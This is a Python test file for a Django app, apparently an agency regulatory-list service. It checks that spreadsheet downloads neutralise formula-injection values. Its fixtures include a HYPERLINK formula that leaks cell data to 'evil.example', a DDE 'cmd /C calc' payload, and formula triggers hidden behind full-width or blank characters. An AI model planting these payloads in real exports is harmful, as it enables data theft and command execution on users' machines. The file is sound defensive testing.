"""Spreadsheet formula injection: every door that hands out a spreadsheet neutralises every
cell, headers included (lists/cells.py is the one guard)."""

import csv
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from lists.cells import FORMULA_TRIGGERS, LEADING_BLANKS, is_formula_like, safe_cell, xml_safe
from lists.itemtext import normalise
from tests.conftest import published_version

pytestmark = pytest.mark.django_db

EVIL_HEADER = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
EVIL_AGENCY = '＝HYPERLINK("http://evil.example/","示例市市场监督管理局")'
HOSTILE_ROWS = [
    {
        "matter": "＋1＋1 全角加号开头",
        "condition": "  =1+1 前导空格后的等号",
        "legal_basis": "＠SUM(A1) 全角at",
        "note": "－2 全角减号",
        "extra": {EVIL_HEADER: "-3+3"},
    },
    {
        "matter": "@SUM(1+1)*cmd|' /C calc'!A0",
        "condition": "\t=制表符后的公式",
        "legal_basis": "\r回车开头",
        "note": "\u3000＝全角空格后的全角等号",
    },
]
PLANTED = [
    EVIL_HEADER,
    EVIL_AGENCY,
    "＋1＋1 全角加号开头",
    "  =1+1 前导空格后的等号",
    "＠SUM(A1) 全角at",
    "－2 全角减号",
    "-3+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=制表符后的公式",
    "\r回车开头",
    "\u3000＝全角空格后的全角等号",
]


def csv_cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]


def xlsx_cells(data: bytes) -> list[str]:
    sheet = load_workbook(io.BytesIO(data)).active
    return [cell.value for row in sheet.iter_rows() for cell in row if cell.value is not None]


def assert_neutralised(cells: list, planted: list[str]) -> None:
    texts = [cell for cell in cells if isinstance(cell, str)]
    assert not [text for text in texts if is_formula_like(text)]
    for text in planted:  # each hostile value is there, behind its apostrophe
        # Item text is stored in its one form (lists.itemtext): edges trimmed, CR gone.
        text = normalise(text)
        if is_formula_like(text):
            assert any(cell.startswith("'") and text in cell for cell in texts), text


@pytest.fixture
def hostile(agency, clerk, reviewer):
    agency.name = EVIL_AGENCY
    agency.save()
    return published_version(agency, clerk, reviewer, rows=HOSTILE_ROWS)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_every_list_download_door_neutralises_cells_and_headers(client, hostile, clerk, fmt):
    read = csv_cells if fmt == "csv" else xlsx_cells
    public = client.get(f"/agencies/scjg/no-penalty/download.{fmt}")
    api = client.get(f"/api/v1/versions/{hostile.pk}/items.{fmt}")
    client.force_login(clerk)
    admin = client.get(reverse(f"admin:lists_listversion_export_{fmt}", args=[hostile.pk]))
    for response in (public, api, admin):
        assert response.status_code == 200
        cells = read(response.getvalue())
        # The CSV has no title row; the agency name reaches it only through the xlsx title.
        planted = PLANTED if fmt == "xlsx" else [t for t in PLANTED if t != EVIL_AGENCY]
        assert_neutralised(cells, planted)


@pytest.mark.parametrize("fmt", ["0", "1"])  # csv, xlsx: the only formats offered
def test_agency_spreadsheet_export_neutralises_names(client, superuser, hostile, fmt):
    client.force_login(superuser)
    url = reverse("admin:agencies_agency_export")
    fields = client.get(url).context["form"].fields
    data = {name: "on" for name in fields if name.startswith("agencyresource_")}
    response = client.post(url, {"resource": "0", "format": fmt, **data})
    assert response.status_code == 200
    cells = csv_cells(response.content) if fmt == "0" else xlsx_cells(response.content)
    assert_neutralised(cells, [EVIL_AGENCY])
    assert [choice for choice, _ in fields["format"].choices if choice] == ["0", "1"]


TEXT = st.text(alphabet=st.characters(codec="utf-8", exclude_categories=["Cs"]), max_size=20)


@given(
    blanks=st.text(alphabet=" \u3000\u00a0\n", max_size=3),
    trigger=st.sampled_from(sorted(FORMULA_TRIGGERS)),
    rest=TEXT,
)
def test_any_text_with_a_trigger_after_blanks_is_neutralised(blanks, trigger, rest):
    value = blanks + trigger + rest
    assert safe_cell(value) == "'" + xml_safe(value)


@given(TEXT)
def test_safe_cell_only_ever_prefixes_and_leaves_safe_text_alone(value):
    result, safe = safe_cell(value), xml_safe(value)  # XML cannot hold every character
    assert result in (safe, "'" + safe)
    assert not is_formula_like(result)
    if safe.lstrip(LEADING_BLANKS)[:1] not in FORMULA_TRIGGERS:
        assert result == safe


def test_numbers_dates_and_none_pass_unchanged():
    assert safe_cell(3) == 3 and safe_cell(None) is None and safe_cell(-2.5) == -2.5
    assert safe_cell("《行政处罚法》第三十三条") == "《行政处罚法》第三十三条"


def test_the_bureaus_spreadsheets_neutralise_agency_names(client, hostile, lead):
    """The coverage board and the half-year report are spreadsheets too (admin doors)."""
    client.force_login(lead)
    today = timezone.localdate()
    board = client.get("/admin/oversight/coverage/", {"format": "xlsx"})
    report = client.get(
        "/admin/oversight/report/",
        {"start": f"{today.year}-01-01", "end": f"{today.year}-12-31", "format": "xlsx"},
    )
    for response in (board, report):
        assert response.status_code == 200
        book = load_workbook(io.BytesIO(response.content))
        cells = [c.value for s in book.worksheets for row in s.iter_rows() for c in row]
        formulas = [
            c for s in book.worksheets for row in s.iter_rows() for c in row if c.data_type == "f"
        ]
        assert formulas == []
        assert_neutralised([c for c in cells if c is not None], [EVIL_AGENCY])
